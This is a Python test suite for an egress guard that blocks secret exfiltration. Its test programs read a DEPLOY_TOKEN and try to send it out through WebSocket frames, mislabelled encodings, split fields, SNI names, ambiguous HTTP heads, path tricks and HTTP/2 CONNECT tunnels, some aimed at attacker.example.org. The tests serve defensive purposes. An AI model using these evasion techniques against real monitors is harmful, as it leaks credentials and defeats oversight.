"""Parts of protocols that carry bytes and are easily forgotten, and heads that two programs read in two ways."""

from __future__ import annotations

import textwrap

import pytest

from tests.attacks.programs import PYTHON, raw_http, request
from tests.attacks.test_exfiltration import ALLOWED, APIS, SEND, assert_unwritten, sent
from tests.world import World
from tests.world.internet import API, ATTACKERS

KEEP_ON = [*ALLOWED, "--on-exfiltration", "fail"]

_TLS = textwrap.dedent(
    """
    import base64, gzip, json, os, socket, ssl
    value = os.environ.get("DEPLOY_TOKEN", ""); raw = value.encode()
    def tls(host="api.example.com", to="api.example.com", verify=True):
        context = ssl.create_default_context()
        if not verify:
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        return context.wrap_socket(socket.create_connection((to, 443), timeout=8), server_hostname=host)
    def answer(s):
        try:
            s.settimeout(4)
            print(s.recv(4096).split(b"\\r\\n")[0], flush=True)
        except OSError as problem:
            print(type(problem).__name__, flush=True)
    """
)
_WEBSOCKET = _TLS + textwrap.dedent(
    """
    s = tls()
    s.sendall(b"GET /ws HTTP/1.1\\r\\nHost: api.example.com\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
              b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n")
    answer(s)
    def frame(kind, data, last=True):
        return bytes([last << 7 | kind, 0x80 | len(data), 0, 0, 0, 0]) + data
    """
)


@pytest.mark.parametrize(
    "frames",
    [
        "frame(9, raw)",
        "frame(10, raw)",
        "frame(8, b'\\x03\\xe8' + raw)",
        "frame(9, raw[:20]) + frame(9, raw[20:])",
        "frame(1, raw[:20], last=False) + frame(0, raw[20:])",
        "frame(2, b'a' + raw[:9], last=False) + frame(9, b'hello') + frame(0, raw[9:])",
    ],
)
def test_every_frame_of_a_websocket_is_watched(world: World, secret: str, frames: str) -> None:
    """Pings, pongs and reasons for closing went through unread."""
    program = _WEBSOCKET + f"s.sendall({frames}); answer(s)\n"
    world.guard.bare([PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret})
    assert secret.encode()[20:] in world.received(*APIS) or "frame(8" in frames or "frame(9, b'hello')" in frames
    world.forget()
    outcome = world.guard.run(KEEP_ON, [PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 91, outcome.stderr
    assert secret.encode()[20:] not in world.received(*APIS)
    assert {one["place"] for one in outcome.incidents} == {"websocket"}


def test_a_ping_is_answered_with_what_it_said(world: World) -> None:
    program = _WEBSOCKET + "s.sendall(frame(9, b'are you there'))\ns.settimeout(5); print(s.recv(100))\n"
    outcome = world.guard.run(ALLOWED, [PYTHON, "-c", program])
    assert outcome.code == 0, outcome.stderr
    assert b"are you there" in world.received(*APIS)


def test_an_endless_websocket_message_is_cut(world: World) -> None:
    """A message is held until it is complete, so it needs a bound."""
    program = _WEBSOCKET + textwrap.dedent(
        """
        piece = bytes([0, 0x80 | 127]) + (1 << 20).to_bytes(8, "big") + bytes(4) + bytes(1 << 20)
        s.sendall(frame(2, b"a", last=False))
        try:
            for number in range(64):
                s.sendall(piece)
            print("all taken")
        except OSError:
            print("cut")
        """
    )
    outcome = world.guard.run(KEEP_ON, [PYTHON, "-c", program], timeout=120)
    assert "cut" in outcome.stdout
    assert outcome.code == 0
    assert "over 16 MB" in outcome.stderr


MISNAMED = SEND + textwrap.dedent(
    """
    import base64, gzip, json, os, zlib
    value = os.environ["DEPLOY_TOKEN"]
    noise = [base64.b64encode(os.urandom(9)).decode() for _ in range(400)]
    packed = gzip.compress(json.dumps({"noise": noise, "token": value}).encode())
    for coding in ("x-unknown", "br", "zstd", "deflate", "gzip, x-unknown"):
        send(coding, body=packed, headers={"Content-Encoding": coding})
        send(coding + " streamed", body=gzip.compress(os.urandom(1 << 21) + value.encode()), headers={"Content-Encoding": coding})
    send("a broken checksum", body=packed[:-8] + bytes(8), headers={"Content-Encoding": "gzip"})
    send("plain text called gzip", body=b"x" * 1000, headers={"Content-Encoding": "gzip"})
    """
)


def test_a_wrong_content_encoding_hides_nothing(world: World, secret: str) -> None:
    """The first decoder that failed made all others give up."""
    world.guard.bare([PYTHON, "-c", MISNAMED], env={"DEPLOY_TOKEN": secret})
    assert len([one for seen in world.at(*APIS) for one in seen.requests if one.complete]) == 12
    world.forget()
    outcome = world.guard.run(KEEP_ON, [PYTHON, "-c", MISNAMED], env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 91, outcome.stderr
    assert len(sent(outcome)) == 12
    assert [one.path for seen in world.at(*APIS) for one in seen.requests if one.complete] == []


def test_an_unknown_content_encoding_alone_is_no_offence(world: World) -> None:
    program = SEND + "send('aws', body=b'data', headers={'Content-Encoding': 'aws-chunked'})\n"
    outcome = world.guard.run(ALLOWED, [PYTHON, "-c", program])
    assert outcome.code == 0
    assert sent(outcome) == {"aws": "200"}


INSIDE = SEND + textwrap.dedent(
    """
    import gzip, io, json, os, urllib.parse, zipfile, lzma
    value = os.environ["DEPLOY_TOKEN"]
    around = b"first line " + value.encode() + b" last line"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("a.txt", around)
    for name, data in {"gzip": gzip.compress(around), "xz": lzma.compress(around), "zip": archive.getvalue()}.items():
        part = b'--b\\r\\nContent-Disposition: form-data; name="f"; filename="f"\\r\\n\\r\\n' + data + b"\\r\\n--b--\\r\\n"
        send("multipart " + name, body=part, headers={"Content-Type": "multipart/form-data; boundary=b"})
    message = gzip.compress(around)
    send("a compressed grpc message", body=b"\\1" + len(message).to_bytes(4, "big") + message)
    first, second = value[:20], value[20:]
    send("two form fields", body=urllib.parse.urlencode({"a": first, "b": second}))
    send("two query parameters", "GET", "/?a=%s&b=%s" % (first, second))
    send("two json values", body=json.dumps({"a": first, "b": [second]}))
    send("two headers", "GET", headers={"X-A": first, "X-B": second})
    send("a character a header", "GET", headers={"X-%d" % n: c for n, c in enumerate(value)})
    """
)


def test_what_is_inside_or_in_pieces_is_seen(world: World, secret: str) -> None:
    world.guard.bare([PYTHON, "-c", INSIDE], env={"DEPLOY_TOKEN": secret})
    assert len([one for seen in world.at(*APIS) for one in seen.requests]) == 9
    world.forget()
    outcome = world.guard.run(KEEP_ON, [PYTHON, "-c", INSIDE], env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 91, outcome.stderr
    assert {name: status for name, status in sent(outcome).items() if status == "200"} == {}
    assert len(sent(outcome)) == 9
    assert [one for seen in world.at(*APIS) for one in seen.requests] == []


def test_a_bound_secret_is_not_said_to_be_in_pieces(world: World, secret: str) -> None:
    policy = world.directory / "bound.yml"
    policy.write_text("version: 1\nallow: [api.example.com]\nsecrets: { DEPLOY_TOKEN: { to: [api.example.com] } }\n")
    program = (
        SEND + "import os\nsend('bearer', 'GET', headers={'Authorization': 'Bearer ' + os.environ['DEPLOY_TOKEN'], 'X-B': 'b'})\n"
    )
    outcome = world.guard.run(["--policy", str(policy)], [PYTHON, "-c", program], env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 0, outcome.stderr


def test_a_server_name_without_a_request_carries_nothing(world: World, secret: str) -> None:
    """With another hyphen than the secret's it was asked of the world; and a handshake alone left no record."""
    name = secret.replace("_", "-").lower()
    program = _TLS + "tls(os.environ['NAME'], verify=False).close()\n"
    env = {"DEPLOY_TOKEN": secret, "NAME": f"{name}.example.com"}
    outcome = world.guard.run(KEEP_ON, [PYTHON, "-c", program], env=env)
    assert outcome.code == 91, outcome.stderr
    assert {name for name, _kind in world.questions} == {"api.example.com"}
    assert_unwritten(name, outcome.everything_written())


def test_a_denied_server_name_without_a_request_is_recorded(world: World) -> None:
    outcome = world.guard.run(ALLOWED, [PYTHON, "-c", _TLS + "tls('attacker.example.org', verify=False).close()\n"])
    assert outcome.code == 90, outcome.stderr
    assert any(one["host"] == "attacker.example.org" for one in outcome.incidents)
    assert world.packets_to(*ATTACKERS) == set()


AMBIGUOUS = {
    "a bare CR in a header": "GET /x HTTP/1.1\r\nHost: api.example.com\r\nX-A: a\rHost: attacker.example.org\r\n\r\n",
    "a NUL in a header": "GET /x HTTP/1.1\r\nHost: api.example.com\r\nX-A: a\0b\r\n\r\n",
    "a folded header": "GET /x HTTP/1.1\r\nHost: api.example.com\r\nX-A: a\r\n b\r\n\r\n",
    "a folded Host": "GET /x HTTP/1.1\r\nHost:\r\n api.example.com\r\n\r\n",
    "a control character in the path": "GET /x\x01 HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    "white space before a colon": "GET /x HTTP/1.1\r\nHost : api.example.com\r\n\r\n",
    "HTTP/0.9": "GET /x\r\n",
    "tabs in the request line": "GET\t/x\tHTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    "no Host and an absolute form": "GET http://api.example.com@attacker.example.org/x HTTP/1.1\r\n\r\n",
}


@pytest.mark.parametrize("name", AMBIGUOUS)
def test_a_head_that_can_be_read_in_two_ways_is_not_sent_on(world: World, name: str) -> None:
    world.guard.run(ALLOWED, raw_http(API, 80, AMBIGUOUS[name]))
    assert world.received(*APIS).strip() == b""
    assert world.packets_to(*ATTACKERS) == set()


def test_an_endless_head_is_cut(world: World) -> None:
    program = (
        "import socket\ns = socket.create_connection(('api.example.com', 80), timeout=9)\n"
        "s.sendall(b'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nX: ')\n"
        "try:\n    for _ in range(600): s.sendall(b'x' * (1 << 16))\n    print('all taken')\nexcept OSError:\n    print('cut')\n"
    )
    outcome = world.guard.run(ALLOWED, [PYTHON, "-c", program])
    assert outcome.stdout == "cut\n"


def test_a_refused_host_is_not_quoted(world: World, secret: str) -> None:
    """The record cut what it quoted at 64 characters, and half a secret is not redacted."""
    head = f"GET / HTTP/1.1\r\nHost: {'a' * 40}!{secret}\r\n\r\n"
    program = "import os, socket\ns = socket.create_connection(('api.example.com', 80))\ns.sendall(os.environ['HEAD'].encode())\ns.recv(9)\n"
    outcome = world.guard.run(KEEP_ON, [PYTHON, "-c", program], env={"HEAD": head, "DEPLOY_TOKEN": secret})
    assert outcome.code == 91
    assert_unwritten(secret, outcome.everything_written())


def test_a_name_with_a_secret_in_small_letters_is_not_printed(world: World) -> None:
    """Names have no upper case, and a short one does not look encoded."""
    outcome = world.guard.run(
        [], ["curl", "-sS", "https://correcthorse-staple.attacker.example.org/"], env={"A_PASSWORD": "CorrectHorse_Staple"}
    )
    assert outcome.code == 91, outcome.stderr
    assert b"orsestap" not in outcome.everything_written().replace(b"-", b"").lower().replace(b"_", b"")


def test_a_long_command_line_is_not_cut_in_a_secret(world: World, secret: str) -> None:
    """4096 bytes of it are read; what is cut off there is not recognised."""
    words = ["a" * 400] * 10
    program = "import urllib.request as u\ntry: u.urlopen('https://attacker.example.org/')\nexcept OSError: pass\n"
    start = 4096 - 20 - len(PYTHON) - len("-c") - len(program) - 3 - sum(len(one) + 1 for one in words)
    while start < 1:
        start += len(words.pop()) + 1
    outcome = world.guard.run([], [PYTHON, "-c", program, *words, "b" * (start - 1), secret], env={"DEPLOY_TOKEN": secret})
    assert outcome.code == 90
    assert_unwritten(secret, outcome.everything_written())


def test_a_path_with_a_fragment_matches_no_glob(world: World) -> None:
    """Servers differ: some end the path there, some go on and resolve its dots."""
    policy = world.directory / "paths.yml"
    policy.write_text("version: 1\nallow: [{ host: api.example.com, protocol: http, paths: [/open, /open/**] }]\n")
    for path in ("/open#/../closed", "/open/#", "/open/%23/../../closed", "/open/.%2e/closed", "//open", "/open;/../closed"):
        outcome = world.guard.run(["--policy", str(policy)], raw_http(API, 80, request("api.example.com", path=path)))
        assert outcome.code == 90, path
    assert world.received(*APIS).strip() == b""


def test_a_header_does_not_replace_the_method(world: World) -> None:
    """X-HTTP-Method-Override turns an allowed POST into a DELETE at servers that honour it."""
    policy = world.directory / "methods.yml"
    policy.write_text("version: 1\nallow: [{ host: api.example.com, protocol: http, methods: [GET, POST] }]\n")
    options = ["--policy", str(policy)]
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "x-method-override"):
        head = request("api.example.com", method="POST", extra=f"{name}: DELETE\r\n", body="a")
        assert world.guard.run(options, raw_http(API, 80, head)).code == 90
    assert world.received(*APIS).strip() == b""
    same = request("api.example.com", method="POST", extra="X-HTTP-Method-Override: GET\r\n", body="a")
    assert world.guard.run(options, raw_http(API, 80, same)).code == 0


def test_trailers_of_an_innocent_request_break_nothing(world: World) -> None:
    """mitmproxy raises NotImplementedError for them over HTTP/1, which made the guard call itself broken."""
    head = "POST / HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX-Sum: 1\r\n\r\n"
    outcome = world.guard.run(ALLOWED, raw_http(API, 443, head, tls="api.example.com"))
    assert outcome.code == 0, outcome.stderr
    assert [one.size for seen in world.at(*APIS) for one in seen.requests] == [1]
    assert b"X-Sum" not in world.received(*APIS)


_CONNECT = """
import socket, ssl, sys
import h2.config, h2.connection
context = ssl.create_default_context()
context.set_alpn_protocols(["h2"])
s = context.wrap_socket(socket.create_connection(("api.example.com", 443), timeout=5), server_hostname="api.example.com")
c = h2.connection.H2Connection(h2.config.H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False))
c.initiate_connection()
c.send_headers(1, [(":method", "GET"), (":scheme", "https"), (":authority", "api.example.com"), (":path", "/first")], end_stream=True)
c.send_headers(3, eval(sys.argv[1]))
c.send_data(3, b"GET /stolen HTTP/1.1\\r\\nHost: attacker.example.org\\r\\n\\r\\n")
s.sendall(c.data_to_send())
s.settimeout(3)
try:
    while data := s.recv(65536):
        pass
except OSError:
    pass
"""


@pytest.mark.parametrize(
    "headers",
    [
        [(":method", "CONNECT"), (":authority", "attacker.example.org:443")],
        [(":method", "CONNECT"), (":authority", "api.example.com:443")],
        [
            (":method", "CONNECT"),
            (":protocol", "websocket"),
            (":scheme", "https"),
            (":path", "/ws"),
            (":authority", "api.example.com"),
        ],
        [(":method", "POST"), (":scheme", "https"), (":authority", "attacker.example.org"), (":path", "/stolen")],
    ],
)
def test_a_stream_of_http2_is_no_tunnel(world: World, headers: list[tuple[str, str]]) -> None:
    """A malformed one ends the connection; a tunnel is malformed here."""
    outcome = world.guard.run(ALLOWED, [PYTHON, "-c", _CONNECT, repr(headers)])
    assert outcome.code in (0, 90), outcome.stderr
    assert b"stolen" not in world.received(*APIS)
    assert world.packets_to(*ATTACKERS) == set()
